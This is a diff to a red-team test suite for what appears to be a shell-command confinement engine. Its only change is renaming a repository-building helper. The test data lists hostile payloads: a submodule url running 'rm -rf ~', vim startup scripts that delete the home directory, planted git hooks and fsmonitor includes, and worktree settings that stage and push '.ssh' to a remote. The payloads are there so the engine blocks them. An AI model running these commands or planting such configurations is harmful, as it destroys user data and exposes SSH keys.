@@ -47,6 +47,7 @@ from tests.redteam.harm import (
     SECRET,
     Case,
     assert_verdict,
+    bare_repository,
     blocked,
     run_confined,
     verdict_cases,
@@ -62,16 +63,6 @@ GITMODULES = '[submodule "s"]\n\tpath = s\n\turl = ext::sh -c rm% -rf% ~\n'
 GITLINK = "git init -q && git update-index --add --cacheinfo 160000,1111111111111111111111111111111111111111,s && "
 WHO = "-c user.name=t -c user.email=t@t"
 LEFT_PAD = {"node_modules/left-pad/package.json": '{"name": "left-pad", "version": "1.0.0"}\n'}
-
-
-def git_dir(config: str = "", folder: str = "r") -> dict[str, str]:
-    """A repository git takes for one (HEAD, objects/, refs/, config), written with write_file under ``folder``."""
-    return {
-        f"{folder}/HEAD": "ref: refs/heads/main\n",
-        f"{folder}/objects/info/keep": "",
-        f"{folder}/refs/tags/keep": "",
-        f"{folder}/config": "[core]\n\trepositoryformatversion = 0\n\tbare = false\n" + config,
-    }
 
 
 # -- verdicts: each payload in a session that wrote its files, near misses that stay allowed -----------------------
@@ -95,30 +86,36 @@ PAYLOADS: dict[str, Case] = {
     "viminit-source": ({"v": ":!rm -rf ~\n"}, "VIMINIT='so v' vim -c q"),
     "vimruntime": ({"defaults.vim": ":!rm -rf ~\n"}, "VIMRUNTIME=. vim -c q f"),
     # 3. a git directory under another name
-    "gitdir-hook": ({**git_dir(), "r/hooks/pre-commit": RM}, "GIT_DIR=r GIT_WORK_TREE=. git commit -m x"),
-    "gitdir-hook-option": ({**git_dir(), "r/hooks/pre-commit": RM}, "git --git-dir=r --work-tree=. commit -m x"),
-    "gitdir-hook-push": ({**git_dir(), "r/hooks/pre-push": RM}, "git --git-dir=r push origin main"),
-    "gitdir-include": ({**git_dir("[include]\n\tpath = ../y.cfg\n"), "y.cfg": FSMONITOR}, "GIT_DIR=r git status"),
+    "gitdir-hook": ({**bare_repository(), "r/hooks/pre-commit": RM}, "GIT_DIR=r GIT_WORK_TREE=. git commit -m x"),
+    "gitdir-hook-option": (
+        {**bare_repository(), "r/hooks/pre-commit": RM},
+        "git --git-dir=r --work-tree=. commit -m x",
+    ),
+    "gitdir-hook-push": ({**bare_repository(), "r/hooks/pre-push": RM}, "git --git-dir=r push origin main"),
+    "gitdir-include": (
+        {**bare_repository("[include]\n\tpath = ../y.cfg\n"), "y.cfg": FSMONITOR},
+        "GIT_DIR=r git status",
+    ),
     "gitdir-includeif": (
-        {**git_dir('[includeIf "onbranch:main"]\n\tpath = ../y.cfg\n'), "y.cfg": FSMONITOR},
+        {**bare_repository('[includeIf "onbranch:main"]\n\tpath = ../y.cfg\n'), "y.cfg": FSMONITOR},
         "GIT_DIR=r git status",
     ),
     "gitdir-include-same-line": (
-        {**git_dir("[include] path = ../y.cfg\n"), "y.cfg": FSMONITOR},
+        {**bare_repository("[include] path = ../y.cfg\n"), "y.cfg": FSMONITOR},
         "GIT_DIR=r git status",
     ),
     "gitdir-worktree": (
-        git_dir("\tworktree = ../../home\n"),
+        bare_repository("\tworktree = ../../home\n"),
         "GIT_DIR=r git add -A && GIT_DIR=r git commit -m x && GIT_DIR=r git push https://h/x",
     ),
-    "gitdir-worktree-case": (git_dir("\tWorkTree=../../home\n"), "GIT_DIR=r git add .ssh"),
-    "bare-cwd-worktree": (git_dir("\tworktree = ../../home\n"), "cd r && git add .ssh"),
+    "gitdir-worktree-case": (bare_repository("\tWorkTree=../../home\n"), "GIT_DIR=r git add .ssh"),
+    "bare-cwd-worktree": (bare_repository("\tworktree = ../../home\n"), "cd r && git add .ssh"),
     "gitdir-hookspath": (
-        {**git_dir("\thooksPath = h\n"), "h/pre-commit": RM},
+        {**bare_repository("\thooksPath = h\n"), "h/pre-commit": RM},
         "GIT_DIR=r git --work-tree=. commit -m x",
     ),
     "gitdir-ext-allowed": (
-        git_dir('[protocol "ext"]\n\tallow = always\n[remote "o"]\n\turl = https://h/x\n'),
+        bare_repository('[protocol "ext"]\n\tallow = always\n[remote "o"]\n\turl = https://h/x\n'),
         "GIT_DIR=r git fetch o",
     ),
     # 4. git init's template
@@ -161,10 +158,13 @@ NEAR_MISSES: dict[str, Case] = {
     "vim": ({}, "vim -c q f"),
     "viminit-setting": ({}, "VIMINIT='set nu' vim -c q f"),
     "vimruntime-system": ({}, "VIMRUNTIME=/usr/share/vim/vim90 vim -c q f"),
-    "gitdir-plain": (git_dir(), "GIT_DIR=r git status"),
-    "gitdir-user": (git_dir("[user]\n\tname = me\n"), "GIT_DIR=r git log"),
-    "gitdir-sample-hook": ({**git_dir(), "r/hooks/pre-commit.sample": RM}, "git --git-dir=r --work-tree=. status"),
-    "gitdir-worktreeconfig-key": (git_dir("[extensions]\n\tworktreeConfig = true\n"), "GIT_DIR=r git log"),
+    "gitdir-plain": (bare_repository(), "GIT_DIR=r git status"),
+    "gitdir-user": (bare_repository("[user]\n\tname = me\n"), "GIT_DIR=r git log"),
+    "gitdir-sample-hook": (
+        {**bare_repository(), "r/hooks/pre-commit.sample": RM},
+        "git --git-dir=r --work-tree=. status",
+    ),
+    "gitdir-worktreeconfig-key": (bare_repository("[extensions]\n\tworktreeConfig = true\n"), "GIT_DIR=r git log"),
     "init": ({"a.txt": "x\n"}, "git init s"),
     "init-no-template": ({"a.txt": "x\n"}, "git init --template= s"),
     "init-system-template": ({"a.txt": "x\n"}, "git init --template=/usr/share/git-core/templates s"),
@@ -192,14 +192,20 @@ HARM: dict[str, tuple[dict[str, str], str]] = {
     "npm-editor": ({"x": RM, **LEFT_PAD}, "npm edit left-pad --editor=./x"),
     "npm-git": ({"x": RM}, "npm install --git=./x github:a/b"),
     "viminit-source": ({"v": 'call system("rm -rf ~")\n'}, "VIMINIT='so v' vim -c q </dev/null"),
-    "gitdir-hook": ({**git_dir(), "r/hooks/pre-commit": RM}, f"GIT_DIR=r GIT_WORK_TREE=. git {WHO} commit -qm x"),
-    "gitdir-include": ({**git_dir("[include]\n\tpath = ../y.cfg\n"), "y.cfg": FSMONITOR}, "GIT_DIR=r git status"),
+    "gitdir-hook": (
+        {**bare_repository(), "r/hooks/pre-commit": RM},
+        f"GIT_DIR=r GIT_WORK_TREE=. git {WHO} commit -qm x",
+    ),
+    "gitdir-include": (
+        {**bare_repository("[include]\n\tpath = ../y.cfg\n"), "y.cfg": FSMONITOR},
+        "GIT_DIR=r git status",
+    ),
     "gitdir-worktree": (
-        git_dir("\tworktree = ../../home\n"),
+        bare_repository("\tworktree = ../../home\n"),
         f"GIT_DIR=r git add .ssh && GIT_DIR=r git {WHO} commit -qm x && GIT_DIR=r git log -p",
     ),
     "gitdir-hookspath": (
-        {**git_dir("\thooksPath = h\n"), "h/pre-commit": RM},
+        {**bare_repository("\thooksPath = h\n"), "h/pre-commit": RM},
         f"GIT_DIR=r GIT_WORK_TREE=. git {WHO} commit -qm x",
     ),
     "init-template": ({"t/hooks/pre-commit": RM}, f"git init -q --template=t s && cd s && git {WHO} commit -qm x"),
@@ -222,7 +228,7 @@ def test_harm_written_then_stopped(
     ("files", "command"),
     [
         ({"package.json": PKG}, "npm test"),
-        ({**git_dir()}, f"GIT_DIR=r GIT_WORK_TREE=. git {WHO} commit -qm x --allow-empty"),
+        ({**bare_repository()}, f"GIT_DIR=r GIT_WORK_TREE=. git {WHO} commit -qm x --allow-empty"),
         ({"a.txt": "x\n"}, f"git init -q --template= s && cd s && git {WHO} commit -qm x --allow-empty"),
         ({".gitmodules": GITMODULES}, "git init -q && git submodule update --init"),
     ],
@@ -277,4 +283,4 @@ def test_config_worktree_sends_the_key(tmp_path: Path, plain_harm: tuple[Engine,
     "command", ["cd r && GIT_WORK_TREE=.. git commit -m x", "git -C r --work-tree=.. commit -m x"], ids=["cd", "C"]
 )
 def test_open_hooks_of_the_working_git_directory(plain_project: tuple[Path, Engine], command: str) -> None:
-    assert_verdict(plain_project, ({**git_dir(), "r/hooks/pre-commit": RM}, command), False, f"open-{command}")
+    assert_verdict(plain_project, ({**bare_repository(), "r/hooks/pre-commit": RM}, command), False, f"open-{command}")
